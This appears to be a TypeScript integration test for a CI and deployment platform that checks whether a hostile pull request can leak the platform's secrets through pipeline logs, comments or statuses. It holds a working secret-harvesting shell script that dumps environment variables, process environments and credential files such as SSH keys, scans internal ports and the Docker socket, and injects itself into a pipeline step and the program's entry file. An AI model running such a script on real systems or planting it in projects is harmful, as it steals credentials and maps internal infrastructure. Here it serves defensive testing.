import * as assert from "node:assert/strict";
import * as crypto from "node:crypto";
import * as fs from "node:fs/promises";
import * as path from "node:path";
import { Clone } from "../support/clone";
import type { DeliveryWorld } from "../support/delivery-world";
import { everyForm, foundIn } from "../support/canary-forms";

const WANTED = 20;

/**
 * What somebody who may open a pull request could have run: it looks at everything that a step can
 * see, and leaves what it found in the log, where he can read it.
 */
const LOOT = `#!/bin/sh
# Each part may fail: the next one is tried all the same.
echo "== environment"; env
echo "== of other processes"; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'
echo "== files"
find / -xdev -type f -size -64k \\( -path '/run/*' -o -path '/root/*' -o -path '/home/*' \\
  -o -path '/etc/slipway*' -o -path '/woodpecker/*' -o -name '.netrc' -o -name 'id_*' \\
  -o -path '*/.docker/*' -o -path '*/.pulumi/*' -o -path '*/.ssh/*' -o -path '*/.slipway/*' \\) \\
  ! -path '*/node_modules/*' ! -path '*/.git/objects/*' -exec cat {} + 2>/dev/null
echo "== mounts"; cat /proc/mounts
echo "== engine"
ls -l /var/run/docker.sock /run/docker.sock 2>&1
for host in engine state registry builder forge ci-server ci-agent edge; do
  for port in 22 2222 2375 2376 5000 5001 1234 8000 9000 80; do
    node -e '
      const [host, port] = process.argv.slice(1);
      const socket = require("net").connect({ host, port: Number(port), timeout: 500 }, () => {
        socket.write("GET / HTTP/1.0\\r\\n\\r\\n");
      });
      socket.on("data", (data) => console.log(host + ":" + port, data.toString().slice(0, 2000)));
      socket.on("timeout", () => socket.destroy()).on("error", () => undefined);
    ' "$host" "$port"
  done
done
echo "== state"
node -e '
  for (const url of ["http://state:5001/", "http://state:5001/pulumi?list-type=2",
      "http://registry:5000/v2/_catalog"])
    fetch(url).then(async (answer) => console.log(url, answer.status, await answer.text()), () => {});
'
echo "== end of the loot"
`;

/** The platform's and the stacks' secrets, and what the CI keeps for its pipelines. */
export function hostilePullRequestChapter(world: DeliveryWorld): void {
  describe("a hostile pull request", () => {
    let canaries: readonly string[] = [];

    it("is run against real secrets, each of which a scan would find", async () => {
      canaries = await world.secrets();
      assert.ok(canaries.length >= WANTED, `there are only ${canaries.length} secrets`);
      for (const canary of canaries) {
        for (const form of everyForm(canary)) {
          const control = `${crypto.randomBytes(40).toString("hex")}${form}.`;
          assert.deepEqual(foundIn(control, [canary]), [canary]);
        }
      }
    });

    it("gets none of them, by nothing that its pipelines print or post", async () => {
      const { infrastructure, anna } = world;
      const clone = await Clone.of(infrastructure, anna, world.folder("hostile"));
      await clone.update("hostile");
      await fs.writeFile(path.join(clone.dir, "loot.sh"), LOOT, { mode: 0o755 });
      // A step of its own, and the program that a preview runs, with all that a step may ask for.
      await fs.writeFile(
        path.join(clone.dir, ".woodpecker/loot.yaml"),
        [
          "when: [{ event: pull_request }, { event: push }]",
          "steps:",
          "  loot:",
          "    image: ${SLIPWAY_CI_IMAGE}",
          "    commands: [sh loot.sh]",
          "  settings:",
          "    image: ${SLIPWAY_CI_IMAGE}",
          "    settings:",
          "      command: ci preview",
          ...SECRETS.map((name) => `      ${name}: { from_secret: ${name} }`),
          "",
        ].join("\n"),
      );
      await clone.edit(
        "index.ts",
        (text) =>
          'import { execFileSync as lootRun } from "node:child_process";\n' +
          'process.stderr.write(lootRun("sh", ["loot.sh"]).toString());\n' +
          text,
      );
      const sha = await clone.push("Nothing to see here", "hostile");
      const { number } = await infrastructure.open("hostile", "Nothing to see here");
      await infrastructure.decided(sha, /woodpecker.*loot/);
      await infrastructure.decided(sha, /woodpecker.*preview/);
      const seen = [
        await world.logsOf(sha),
        ...(await infrastructure.comments(number)).map(({ body }) => body),
        ...(await infrastructure.statuses(sha)).map(({ description }) => description),
      ].join("\n");
      assert.match(seen, /== end of the loot/, "the loot was not taken: this would show nothing");
      assert.deepEqual(foundIn(seen, canaries), []);
    });
  });
}

const SECRETS = [
  "slipway_release_token",
  "slipway_deploy_key",
  "slipway_state_password",
  "slipway_registry_password",
  "pulumi_config_passphrase",
];
